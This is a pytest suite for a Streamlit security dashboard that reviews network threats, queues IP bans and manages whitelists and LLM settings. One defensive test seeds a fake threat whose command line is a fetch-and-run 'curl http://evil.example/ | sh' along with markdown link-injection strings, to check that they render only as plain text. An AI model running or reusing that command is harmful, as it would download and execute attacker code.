"""The dashboard driven through streamlit.testing.v1.AppTest: every page
against a temporary records directory (seeded test data, tests/dashboard_seed.py),
asserting on the files the dashboard writes and on `not at.exception`."""

from __future__ import annotations

import json
import os
import re
import time
from pathlib import Path

import pytest
from streamlit import config as st_config
from streamlit.testing.v1 import AppTest

from analyzer_support import conn, lines, run_analyzer
from dashboard_seed import seed
from netsentinel.testing.llm_standins import StandinServer
from netsentinel import threats
from netsentinel.levels import LEVELS
from netsentinel.dashboard import access, data, settings, status
from netsentinel.records import BAN_COMMANDS, DASHBOARD_LOGS, LLM_CONFIG, PENDING_THREATS
from netsentinel.store import RecordsStore
from netsentinel.timefmt import utc_now_iso

ROOT = Path(__file__).resolve().parent.parent
SCRIPT = str(ROOT / "dashboard.py")


TOKEN = "test-token-0123456789abcdef"


@pytest.fixture
def env(tmp_path, monkeypatch):
    """An empty records dir and whitelist path, on loopback, with a known
    login token (NETSENTINEL_DASHBOARD_TOKEN) and a fresh login limiter."""
    records, cfg = tmp_path / "records", tmp_path / "filter_config.json"
    monkeypatch.setenv("NETSENTINEL_RECORDS", str(records))
    monkeypatch.setenv("NETSENTINEL_CONFIG", str(cfg))
    monkeypatch.setenv("NETSENTINEL_DASHBOARD_REFRESH", "0")
    monkeypatch.setenv("NETSENTINEL_DASHBOARD_TOKEN", TOKEN)
    for var in ("NETSENTINEL_DASHBOARD_PASSWORD", "ZHIPUAI_API_KEY", "OPENAI_API_KEY"):
        monkeypatch.delenv(var, raising=False)
    old = st_config.get_option("server.address")
    st_config.set_option("server.address", "127.0.0.1")
    access.LIMITER.reset()
    yield records, cfg
    access.LIMITER.reset()
    st_config.set_option("server.address", old)


# Widgets inside a form are sent with its submit button, as in a browser: set
# them, then click and run once (a run in between would reset them to the
# last submitted values).


def start(page: str = "Overview", token: str | None = TOKEN) -> AppTest:
    """The app after opening /?token=TOKEN (token=None: no login)."""
    at = AppTest.from_file(SCRIPT, default_timeout=60)
    if token is not None:
        at.query_params["token"] = token
    at.run()
    assert not at.exception, at.exception
    if page != "Overview":
        at.radio(key="nav").set_value(page).run()
        assert not at.exception, at.exception
    return at


def read(path: Path, default=None):
    return json.loads(path.read_text()) if path.exists() else default


def shown(markdown: str) -> str:
    """What a person reads of an escaped markdown line (ui.md)."""
    return re.sub(r"\\(.)", r"\1", markdown).replace("\u2060", "")


def texts(at: AppTest, kind: str) -> str:
    return "\n".join(shown(str(e.value)) for e in getattr(at, kind))


def rendered(at: AppTest) -> str:
    """Every element's protobuf, as text: what the browser would receive."""
    out = []

    def walk(node):
        if getattr(node, "proto", None) is not None:
            out.append(str(node.proto))
        for child in getattr(node, "children", {}).values():
            walk(child)
    walk(at._tree)
    return "\n".join(out)


def frame(at, column: str):
    """The table that has this column (AppTest finds tables by position only)."""
    return next(df.value for df in at.dataframe if column in df.value.columns)


# ---------------------------------------------------------------- pages render
@pytest.mark.parametrize("page", ["Overview", "Events", "Review", "Bans", "Whitelist", "LLM settings"])
def test_every_page_renders_seeded_data(env, page):
    records, _ = env
    seed(records)
    at = start(page)
    assert not at.exception
    assert at.header[0].value == page
    assert "3 threats waiting for review" in texts(at, "warning")


def test_overview_counters_and_liveness(env):
    records, _ = env
    seed(records)
    at = start()
    metrics = {m.label: m.value for m in at.metric}
    assert metrics["Pending"] == "3" and metrics["Bans"] == "3"
    # Threats recorded in the last hour by level (the store), not events.
    assert metrics["Critical"] == "1" and metrics["High"] == "2"
    assert metrics["Medium"] == 488 or metrics["Medium"] == "488"  # verdicts since the analyzer started
    assert metrics["Dropped"] == "112k"
    assert list(frame(at, "destination")["destination"])[:1] == ["198.51.100.20"]  # most frequent
    assert all(frame(at, "destination")["destination"])  # never a blank destination row
    side = texts(at, "markdown")
    assert f"loader: running, pid {os.getpid()}" in side
    assert f"analyzer: running, pid {os.getpid()}" in side


@pytest.mark.parametrize("page", ["Overview", "Events", "Review", "Bans", "Whitelist", "LLM settings"])
def test_every_page_copes_with_no_records(env, page):
    at = start(page)
    assert not at.exception
    side = texts(at, "markdown")
    assert "loader: not started" in side and "analyzer: not started" in side


def test_events_filter_and_search(env):
    records, _ = env
    seed(records)
    at = start("Events")
    at.multiselect(key="events_levels").set_value(["CRITICAL"]).run()
    df = at.dataframe[0].value
    assert len(df) > 0 and set(df["level"]) == {"CRITICAL"}
    at.multiselect(key="events_levels").set_value(list(LEVELS)).run()
    at.text_input(key="events_search").input("smbclient").run()
    df = at.dataframe[0].value
    assert len(df) > 0 and set(df["process"]) == {"smbclient"}
    at.text_input(key="events_search").input("445").run()
    assert set(at.dataframe[0].value["port"]) == {445}


def test_real_analyzer_output_end_to_end(env, tmp_path):
    """What the real llm_analyzer.py writes (rules backend, a port scan and
    normal traffic) is what the dashboard shows and decides on."""
    records, _ = env
    events = [conn(i * 0.5, comm="python3", exe="/usr/bin/python3.11", daddr="203.0.113.5",
                   dport=20000 + i) for i in range(20)]
    events += [conn(11 + i, daddr="198.51.100.20", dport=443) for i in range(5)]
    done = run_analyzer(tmp_path, ["--backend", "rules"], lines(events), records=records)
    assert done.returncode == 0, done.stderr
    at = start()
    # The events are stamped with their own time (2026-11-21), not when analysed.
    assert int({m.label: m.value for m in at.metric}["Critical"]) == 0  # nothing in the last hour
    at.selectbox(key="overview_range").set_value("everything").run()
    metrics = {m.label: m.value for m in at.metric}
    assert int(metrics["Critical"]) > 0 and metrics["Pending"] == "1"
    assert "analyzer: stopped" in texts(at, "markdown")  # it exited after EOF
    at.radio(key="nav").set_value("Events").run()
    at.selectbox(key="events_range").set_value("everything").run()
    assert len(at.dataframe[0].value) == 25
    at.radio(key="nav").set_value("Review").run()
    tid = threats.list_threats(RecordsStore(records), "pending")[0]["id"]
    at.button(key=f"approve_{tid}").click().run()
    assert not at.exception
    assert [(c["ip"], c["threat_id"]) for c in read(records / BAN_COMMANDS)] == [("203.0.113.5", tid)]


# ------------------------------------------------------------ corrupted files
def test_corrupted_files_give_notices_and_stay_in_place(env):
    records, cfg = env
    seed(records)
    broken = {DASHBOARD_LOGS: '{"entries": [', PENDING_THREATS: "not json",
              "banned_ips.json": "[1, 2", "loader_status.json": '{"pid": ',
              BAN_COMMANDS: '{"action": "ban"}'}
    for name, text in broken.items():
        (records / name).write_text(text)
    for page in ("Overview", "Events", "Review", "Bans", "LLM settings"):
        at = start(page)
        assert not at.exception, page
        warnings = texts(at, "warning")
        assert "invalid JSON" in warnings, page
    overview = texts(start("Overview"), "warning")
    bans = texts(start("Bans"), "warning")
    for name in (PENDING_THREATS, "banned_ips.json", "loader_status.json"):
        assert name in overview
    assert f"{BAN_COMMANDS}: expected a JSON list, found object" in bans
    for name, text in broken.items():  # read-only refreshes never move or rewrite a file
        assert (records / name).read_text() == text
    assert not list(records.glob("*.corrupt-*"))


def test_a_damaged_event_store_is_reported_and_left_alone(env):
    records, _ = env
    seed(records)
    db = records / "events.sqlite3"
    for sidecar in ("-wal", "-shm"):
        Path(f"{db}{sidecar}").unlink(missing_ok=True)
    db.write_bytes(b"not a database" * 100)
    for page in ("Overview", "Events", "History", "Filter rules"):
        at = start(page)
        assert not at.exception, page
        if page != "Filter rules":  # the rules page only reads flood evidence from it
            assert any(str(db) in i.value.replace("\\", "") for i in at.info), page
    metrics = {m.label: m.value for m in start("Overview").metric}
    assert metrics["Pending"] == "3" and metrics["Bans"] == "3"  # the records files still count
    assert db.read_bytes() == b"not a database" * 100


# ----------------------------------------------------------------------- bans
def test_ban_writes_a_validated_command(env):
    records, _ = env
    seed(records)
    at = start("Bans")
    at.text_input(key="ban_ip").input("203.0.113.99")
    at.text_input(key="ban_reason").input("brute force on ssh")
    at.selectbox(key="ban_ttl").set_value("1 hour")
    at.button(key="ban_submit").click().run()
    assert not at.exception
    cmds = read(records / BAN_COMMANDS)
    assert len(cmds) == 1
    assert {k: cmds[0][k] for k in ("action", "ip", "reason", "source", "ttl_seconds")} == {
        "action": "ban", "ip": "203.0.113.99", "reason": "brute force on ssh", "source": "dashboard",
        "ttl_seconds": 3600}
    assert "Ban of 203.0.113.99 queued" in texts(at, "success")
    assert at.text_input(key="ban_ip").value == ""  # cleared after success
    assert "203.0.113.99" in str(at.dataframe[1].value["target"].tolist())  # queued table


@pytest.mark.parametrize("target, why", [
    ("not-an-ip", "not-an-ip"),
    ("0.0.0.0/0", "too broad"),
    ("127.0.0.2", "loopback"),
    ("192.0.2.10", "overlaps whitelisted"),
    ("", "Enter an IPv4/IPv6 address"),
])
def test_ban_refused_with_a_clear_message(env, target, why):
    records, cfg = env
    cfg.write_text(json.dumps({"trusted_ips": ["192.0.2.0/28"]}))
    at = start("Bans")
    at.text_input(key="ban_ip").input(target)
    at.button(key="ban_submit").click().run()
    assert not at.exception
    errors = texts(at, "error")
    assert why in errors and "\n" not in errors.strip()
    assert not (records / BAN_COMMANDS).exists()
    assert at.text_input(key="ban_ip").value == target  # kept for correcting


def test_unban_queues_a_command(env):
    records, _ = env
    seed(records)
    at = start("Bans")
    at.selectbox(key="unban_ip").set_value("198.51.100.0/24").run()
    at.button(key="unban_submit").click().run()
    assert not at.exception
    cmds = read(records / BAN_COMMANDS)
    assert [(c["action"], c["ip"], c["source"]) for c in cmds] == [("unban", "198.51.100.0/24", "dashboard")]
    rows = at.dataframe[0].value
    assert bool(rows[rows["ban"] == "198.51.100.0/24"]["unban queued"].iloc[0])


def test_bans_page_lists_active_queued_and_refused(env):
    records, _ = env
    store = seed(records)
    store.append_command({"action": "ban", "ip": "203.0.113.200", "source": "manual"})
    at = start("Bans")
    active, queued, refused = (at.dataframe[i].value for i in range(3))
    assert set(active["ban"]) == {"203.0.113.7", "198.51.100.0/24", "2001:db8:bad::/48"}
    assert int(active[active["ban"] == "203.0.113.7"]["drops"].iloc[0]) == 18342
    assert active[active["ban"] == "203.0.113.7"]["expires"].iloc[0] == "never"
    assert list(queued["target"]) == ["203.0.113.200"]
    assert "too broad" in refused["why"].iloc[0]


# --------------------------------------------------------------------- review
def open_card(at: AppTest, tid: str) -> AppTest:
    """Review shows one card, the one picked (the first by default)."""
    return at.selectbox(key="review_open").set_value(tid).run()


def test_approve_writes_ban_command_and_decides(env):
    records, _ = env
    seed(records)
    at = start("Review")
    at.selectbox(key="ttl_seedcrit0001").set_value("24 hours")
    at.text_input(key="note_seedcrit0001").input("confirmed scan")
    at.button(key="approve_seedcrit0001").click().run()
    assert not at.exception
    cmds = read(records / BAN_COMMANDS)
    assert len(cmds) == 1 and cmds[0]["ip"] == "203.0.113.50"
    assert cmds[0]["threat_id"] == "seedcrit0001" and cmds[0]["ttl_seconds"] == 86400
    assert cmds[0]["source"] == "review:seedcrit0001"
    t = next(t for t in read(records / PENDING_THREATS) if t["id"] == "seedcrit0001")
    assert (t["status"], t["decided_by"], t["note"]) == ("approved", "dashboard", "confirmed scan")
    assert "ban of 203.0.113.50 queued" in texts(at, "success")
    cards = " ".join(at.selectbox(key="review_open").options)
    assert "seedhigh0002" in cards and "seedcrit0001" not in cards  # the others still wait


def test_approve_of_an_unbannable_target_is_refused(env):
    records, _ = env
    store = RecordsStore(records)
    (t, _), = threats.add_or_merge_many(store, [({
        "level": "CRITICAL", "category": "port_scan", "reason": "scan of loopback", "confidence": 0.9,
        "event": {"daddr": "127.0.0.2", "dport": 22, "comm": "python3"}, "target": "127.0.0.2",
        "dedupe_key": "dst|127.0.0.2"}, 1)])
    at = start("Review")
    at.button(key=f"approve_{t['id']}").click().run()
    assert not at.exception
    errors = texts(at, "error")
    assert "Ban refused" in errors and "loopback" in errors and "stays pending" in errors
    assert not (records / BAN_COMMANDS).exists()
    assert threats.list_threats(store, "pending")[0]["id"] == t["id"]


def test_untrusted_text_is_not_rendered_as_markdown(env):
    records, _ = env
    evil = "see [docs](http://evil.example/) ![t](http://evil.example/p.png) :red[ok] $x$"
    threats.add_or_merge(RecordsStore(records), {
        "level": "HIGH", "category": "c2", "reason": evil, "confidence": 0.8, "target": "203.0.113.9",
        "event": {"daddr": "203.0.113.9", "dport": 6667, "comm": "`x`![i](http://evil.example/)",
                  "cmdline": "sh -c 'curl http://evil.example/ | sh'"}, "dedupe_key": "dst|203.0.113.9"})
    at = start("Review")
    # Free text from the process or a model is an st.text / st.code element (never parsed) ...
    assert evil in [t.value for t in at.text]
    evidence = "\n".join(c.value for c in at.code)
    assert "sh -c 'curl http://evil.example/ | sh'" in evidence and "`x`![i](http://evil.example/)" in evidence
    # ... and no markdown element carries a link, an image or a URL that would be auto-linked.
    raw = [str(m.value) for m in at.markdown] + [str(c.label) for c in at.checkbox]
    assert not [m for m in raw if "://" in m or "](" in m or "evil" in m], raw


def test_a_merged_threat_shows_each_sighting_whole(env):
    """One attack, one threat (issue 12): its card lists the last sightings,
    each with its own time, reason, process and target, as plain text."""
    records, _ = env
    store = seed(records)
    items = store.read(PENDING_THREATS)
    evil = "scan ![t](http://evil.example/p.png)"
    items[0]["sightings"] = [
        {"ts": "2026-12-01T10:00:00.000000Z", "level": "HIGH", "category": "port_scan", "reason": evil,
         "pid": 4242, "uid": 1000, "comm": "python3", "exe": "/usr/bin/python3.11",
         "daddr": "203.0.113.50", "dport": 22},
        {"ts": "2026-12-01T10:01:00.000000Z", "level": "CRITICAL", "category": "port_scan",
         "reason": "port scan: 15 ports", "pid": 4243, "uid": 1000, "comm": "python3",
         "exe": "/usr/bin/python3.11", "daddr": "203.0.113.51", "dport": 23}]
    store.write(PENDING_THREATS, items)
    at = open_card(start("Review"), items[0]["id"])
    rows = frame(at, "reason")
    assert list(rows["daddr"]) == ["203.0.113.51", "203.0.113.50"]  # newest first
    assert list(rows["pid"]) == ["4243", "4242"] and evil in list(rows["reason"])
    assert not [m for m in (str(x.value) for x in at.markdown) if "evil" in m]


def test_reject_with_whitelist(env):
    records, cfg = env
    seed(records)
    at = open_card(start("Review"), "seedhigh0002")
    at.checkbox(key="trust_seedhigh0002").check()
    at.text_input(key="note_seedhigh0002").input("our file server")
    at.button(key="reject_seedhigh0002").click().run()
    assert not at.exception
    t = next(t for t in read(records / PENDING_THREATS) if t["id"] == "seedhigh0002")
    assert (t["status"], t["note"], t["whitelisted"]) == ("rejected", "our file server", "198.51.100.23")
    assert "198.51.100.23" in read(cfg)["trusted_ips"]
    assert not (records / BAN_COMMANDS).exists()
    assert "198.51.100.23 is now trusted" in texts(at, "success")


def test_reject_without_whitelist_touches_no_config(env):
    records, cfg = env
    seed(records)
    at = open_card(start("Review"), "seedhigh0003")
    at.button(key="reject_seedhigh0003").click().run()
    t = next(t for t in read(records / PENDING_THREATS) if t["id"] == "seedhigh0003")
    assert t["status"] == "rejected" and "whitelisted" not in t
    assert not cfg.exists()


def test_decision_made_elsewhere_meanwhile(env):
    records, _ = env
    seed(records)
    at = start("Review")
    threats.reject(RecordsStore(records), "seedcrit0001", by="cli")
    at.button(key="approve_seedcrit0001").click().run()
    assert not at.exception
    assert "already rejected by cli" in texts(at, "error")
    assert not (records / BAN_COMMANDS).exists()


# ------------------------------------------------------------------ whitelist
def test_whitelist_add_and_remove(env):
    _, cfg = env
    at = start("Whitelist")
    for kind, value in (("ip", "192.0.2.0/24"), ("process", "chronyd"), ("port", "53")):
        at.selectbox(key="wl_kind").set_value(kind)
        at.text_input(key="wl_value").input(value)
        at.button(key="wl_add").click().run()
        assert not at.exception
    saved = read(cfg)
    assert (saved["trusted_ips"], saved["trusted_processes"], saved["trusted_ports"]) == (
        ["192.0.2.0/24"], ["chronyd"], [53])
    at.selectbox(key="wl_remove").set_value("process chronyd").run()
    at.button(key="wl_remove_submit").click().run()
    assert read(cfg)["trusted_processes"] == []
    at.selectbox(key="wl_kind").set_value("port")
    at.text_input(key="wl_value").input("70000")
    at.button(key="wl_add").click().run()
    assert "outside 1-65535" in texts(at, "error")
    assert read(cfg)["trusted_ports"] == [53]


def test_whitelist_options_save(env):
    _, cfg = env
    at = start("Whitelist")
    at.selectbox(key="wl_mode").set_value("mark")
    at.text_input(key="wl_ssh_ports").input("22, 2222")
    at.number_input(key="wl_min4").set_value(16)
    at.button(key="wl_options_save").click().run()
    assert not at.exception
    saved = read(cfg)
    assert saved["whitelisted_connections"] == "mark"
    assert saved["protect_ssh_ports"] == [22, 2222]
    assert saved["min_ban_prefix"] == {"ipv4": 16, "ipv6": 32}


def test_broken_whitelist_is_reported_and_fixable(env):
    records, cfg = env
    seed(records)
    cfg.write_text('{"trusted_ips": ["10.0.0.300"]}')
    at = start("Whitelist")
    assert not at.exception
    assert "not usable" in texts(at, "error")
    assert cfg.read_text() == '{"trusted_ips": ["10.0.0.300"]}'
    # A ban is not checked against a guessed whitelist: it is refused.
    at.radio(key="nav").set_value("Bans").run()
    at.text_input(key="ban_ip").input("203.0.113.5")
    at.button(key="ban_submit").click().run()
    assert "10.0.0.300" in texts(at, "error")
    assert not (records / BAN_COMMANDS).exists()
    at.radio(key="nav").set_value("Whitelist").run()
    at.text_area(key="wl_raw").input('{"trusted_ips": ["10.0.0.30"]}')
    at.button(key="wl_raw_save").click().run()
    assert not at.exception
    assert read(cfg)["trusted_ips"] == ["10.0.0.30"]


# -------------------------------------------------------------- LLM settings
def test_llm_config_save(env):
    records, _ = env
    at = start("LLM settings")
    at.selectbox(key="llm_backend").set_value("ollama")
    at.text_input(key="llm_model").input("qwen3:8b")
    at.text_input(key="llm_host").input("http://127.0.0.1:11434")
    at.number_input(key="llm_scan_ports").set_value(10)
    at.toggle(key="llm_auto_ban").set_value(True)
    at.checkbox(key="llm_host_ok").check()  # a new host: the API key would go there
    at.button(key="llm_save").click().run()
    assert not at.exception
    saved = read(records / LLM_CONFIG)
    assert (saved["backend"], saved["model"], saved["host"]) == ("ollama", "qwen3:8b", "http://127.0.0.1:11434")
    assert saved["scan_port_threshold"] == 10 and saved["auto_ban_critical"] is True
    assert saved["updated_by"] == "dashboard" and saved["updated_at"]
    assert "Saved llm_config.json" in texts(at, "success")


def test_llm_form_follows_a_change_made_elsewhere(env):
    records, _ = env
    at = start("LLM settings")
    assert at.slider(key="llm_temperature").value == 0.1
    RecordsStore(records).write(LLM_CONFIG, {"backend": "rules", "temperature": 0.7})
    at.run()
    assert (at.slider(key="llm_temperature").value, at.selectbox(key="llm_backend").value) == (0.7, "rules")
    assert "changed since the form was filled" in texts(at, "info")
    at.number_input(key="llm_scan_hosts").set_value(50)
    at.button(key="llm_save").click().run()
    saved = read(records / LLM_CONFIG)  # the other change is kept, not reverted
    assert (saved["backend"], saved["temperature"], saved["scan_host_threshold"]) == ("rules", 0.7, 50)


def test_llm_config_invalid_is_refused(env):
    records, _ = env
    at = start("LLM settings")
    at.text_input(key="llm_host").input("localhost:11434")
    at.checkbox(key="llm_host_ok").check()
    at.button(key="llm_save").click().run()
    assert not at.exception
    assert "host must be an http(s) URL" in texts(at, "error")
    assert not (records / LLM_CONFIG).exists()


def test_llm_config_broken_file_is_reported(env):
    records, _ = env
    records.mkdir(parents=True)
    (records / LLM_CONFIG).write_text('{"backend": "gpt5"}')
    at = start("LLM settings")
    assert not at.exception
    assert "backend must be one of" in texts(at, "warning")
    assert (records / LLM_CONFIG).read_text() == '{"backend": "gpt5"}'


def test_llm_test_connection_probes_the_saved_settings(env):
    records, _ = env
    with StandinServer() as server:
        RecordsStore(records).write(LLM_CONFIG, {"backend": "ollama", "host": server.url,
                                                 "model": "qwen3:8b"})
        at = start("LLM settings")
        at.button(key="llm_test").click().run()
        assert not at.exception
        assert f"ollama at {server.url}, model qwen3:8b" in texts(at, "success")
        RecordsStore(records).write(LLM_CONFIG, {"backend": "ollama", "host": server.url,
                                                 "model": "llama-none"})
        at.run()
        at.button(key="llm_test").click().run()
        # The model list comes from the server's /api/tags answer.
        assert "has no model 'llama-none'" in texts(at, "error")
        assert "it has: qwen3:8b, standin-model" in texts(at, "error")


def test_api_keys_are_never_rendered(env, monkeypatch):
    records, _ = env
    key = "0123456789abcdef0123456789abcdef.SeCrEtKeY42"
    monkeypatch.setenv("ZHIPUAI_API_KEY", key)
    monkeypatch.setenv("OPENAI_BASE_URL", "https://user:hunter2@llm.example/v1")
    seed(records)
    store = RecordsStore(records)
    status_doc = json.loads((records / "analyzer_status.json").read_text())
    status_doc["backend_status"] = f"ready: zhipuai key {key}"
    store.write("analyzer_status.json", status_doc)
    store.write(LLM_CONFIG, {"backend": "zhipuai", "_api_key_note": key})
    at = start("LLM settings")
    assert not at.exception
    page = rendered(at)
    assert "ZHIPUAI_API_KEY" in page and "set (hidden)" in page
    assert key not in page and "SeCrEtKeY42" not in page and "hunter2" not in page


# ------------------------------------------------------------ plain functions
def test_settings_from_argv_and_env(tmp_path, monkeypatch):
    monkeypatch.setenv("NETSENTINEL_RECORDS", str(tmp_path / "env"))
    monkeypatch.delenv("NETSENTINEL_DASHBOARD_REFRESH", raising=False)
    s = settings.load_settings(["dashboard.py", "--records", str(tmp_path / "cli"), "--config",
                                str(tmp_path / "f.json"), "--refresh", "2"])
    assert (s.records, s.config, s.refresh_seconds) == (tmp_path / "cli", tmp_path / "f.json", 2.0)
    s = settings.load_settings(["pytest", "--records", "x"])  # not ours: env wins
    assert s.records == tmp_path / "env" and s.refresh_seconds == settings.DEFAULT_REFRESH_SECONDS
    s = settings.load_settings(["dashboard.py", "--bogus"])
    assert "unrecognized arguments: --bogus" in s.argv_error and s.records == tmp_path / "env"
    monkeypatch.setenv("NETSENTINEL_DASHBOARD_REFRESH", "soon")
    assert "not a number" in settings.load_settings(["dashboard.py"]).argv_error


def test_liveness_states():
    now = time.time()
    me = os.getpid()
    assert status.liveness("loader", {}).state == "absent"
    assert status.liveness("loader", {"pid": me, "updated_at": utc_now_iso(now - 2)}, now).state == "running"
    assert status.liveness("loader", {"pid": me, "updated_at": utc_now_iso(now - 60)}, now).state == "stale"
    assert status.liveness("loader", {"pid": me, "running": False,
                                      "updated_at": utc_now_iso(now)}, now).state == "stopped"
    gone = status.liveness("loader", {"pid": 2 ** 22 + 7, "updated_at": utc_now_iso(now)}, now)
    assert gone.state == "stopped" and "is gone" in gone.text


def test_masking():
    assert data.mask_secret("sk-abc") == "set (hidden)" and data.mask_secret("") == "not set"
    assert data.mask_text("http://u:p@h:1/v1") == "http://***@h:1/v1"
    assert data.masked({"api_key": "x", "host": "sk-0123456789abcdef", "n": 1}) == {
        "api_key": "set (hidden)", "host": "***", "n": 1}
